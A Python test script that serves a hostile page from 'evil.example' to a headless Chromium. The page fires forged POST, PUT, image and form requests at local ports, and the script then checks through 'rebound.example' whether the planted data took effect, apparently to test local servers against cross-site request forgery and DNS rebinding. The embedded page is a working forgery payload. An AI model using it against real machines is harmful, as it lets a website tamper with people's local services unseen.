"""A page of another site, in a headless Chromium, that has the browser send what it can to servers.

Usage: cross_site.py BROWSER PORT...

The page is of `evil.example`, and has the browser send a form, a `fetch` and an image to each port of
this machine. Then the browser opens each port by the name `rebound.example`, which somebody has point
at this machine, and what it shows is printed, a line for each port.
"""

import http.server
import json
import os
import subprocess
import sys
import tempfile
import threading

PATIENCE_SECS = 60

PAGE = """<!doctype html><title>evil</title><body><script>
const ports = %s;
async function attack(port) {
  const url = `http://127.0.0.1:${port}/`;
  await fetch(url, {method: "POST", mode: "no-cors", body: "planted\\n"}).catch(() => {});
  await fetch(url + "planted", {method: "PUT", body: "planted"}).catch(() => {});
  await new Promise(resolve => {
    const image = new Image();
    image.onerror = image.onload = resolve;
    image.src = url + "image";
  });
  const frame = document.createElement("iframe");
  frame.name = `frame${port}`;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", enctype: "text/plain", target: frame.name, action: url});
  const input = document.createElement("input");
  Object.assign(input, {name: "alice", value: "planted"});
  form.append(input);
  document.body.append(form);
  const loaded = new Promise(resolve => frame.onload = resolve);
  form.submit();
  await loaded;
}
Promise.all(ports.map(attack)).then(() => fetch("/done"));
</script>"""


def main():
    program, *ports = sys.argv[1:]
    done = threading.Event()

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/done":
                done.set()
            body = (PAGE % json.dumps(ports)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with tempfile.TemporaryDirectory() as profile:
        common = [program, "--headless", "--no-sandbox", "--disable-gpu", "--no-proxy-server",
                  "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={profile}"]
        env = {**os.environ, "HOME": profile, "TMPDIR": profile}
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "env": env}
        browser = subprocess.Popen(
            [*common, "--remote-debugging-port=0",
             f"http://evil.example:{server.server_port}/"], **quiet)
        is_done = done.wait(PATIENCE_SECS)
        browser.terminate()
        browser.wait()
        if not is_done:
            sys.exit("the page does not end")
        for port in ports:
            shown = subprocess.run(
                [*common, "--dump-dom", f"http://rebound.example:{port}/"], env=env,
                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=PATIENCE_SECS,
                check=True, text=True)
            print(" ".join(shown.stdout.split()))


main()
